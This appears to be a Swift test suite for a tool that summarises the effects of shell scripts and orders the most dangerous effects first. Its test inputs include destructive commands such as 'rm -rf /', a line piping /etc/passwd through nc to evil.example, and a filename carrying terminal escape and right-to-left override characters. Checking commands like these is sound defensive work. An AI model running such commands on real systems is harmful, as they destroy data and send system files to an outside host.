import ActionModel
import Testing

@testable import EffectAnalysis

@Suite struct ShellSummaryTests {
  @Test(arguments: [
    ("rm -rf ~", "would delete everything under /home/ann, cannot be undone"),
    ("rm -rf /", "would delete everything on the machine, cannot be undone"),
    ("ls", "would read /home/ann/project"),
    ("true", "would change nothing"),
    (
      "echo x > a; echo y > b; echo z > c; echo w > d",
      "would write /home/ann/project/a and /home/ann/project/b and /home/ann/project/c and 1 more, can be undone with work"
    ),
    ("frobnicate", "would do something that cannot be told beforehand, perhaps cannot be undone"),
    ("sleep 1", "would run sleep"),
    ("/tmp/x", "would run /tmp/x, perhaps cannot be undone"),
  ])
  func `a summary says in one sentence what a script would do`(script: String, sentence: String)
    throws
  {
    #expect(EffectsSummary(try ShellBench.analyze(script)).description == sentence)
  }

  @Test func `a summary names the most dangerous first`() throws {
    let summary = EffectsSummary(
      try ShellBench.analyze("cat /etc/passwd | nc evil.example 80; /tmp/y; rm -rf /x"))
    let text = summary.description
    let deletes = try #require(text.firstRange(of: "delete everything under /x"))
    let sends = try #require(text.firstRange(of: "send data to evil.example"))
    let runs = try #require(text.firstRange(of: "run "))
    #expect(deletes.lowerBound < sends.lowerBound)
    #expect(sends.lowerBound < runs.lowerBound)
  }

  @Test func `a summary is short and on one line, whatever the names`() throws {
    let name = String(repeating: "long", count: 100)
    let script = "rm $'/a\\nb\\e[31m\\u202e' /\(name)1 /\(name)2; touch /\(name)3; cat /\(name)4"
    let text = EffectsSummary(try ShellBench.analyze(script)).description
    #expect(text.count <= EffectsSummary.maximumLength)
    #expect(text.contains("/a\\u{a}b\\u{1b}[31m\\u{202e}"))
    let controls = text.unicodeScalars.filter { scalar in
      scalar.value < 0x20 || scalar.properties.generalCategory == .format
    }
    #expect(controls.isEmpty)
    #expect(text.hasSuffix(", cannot be undone"))
  }
}
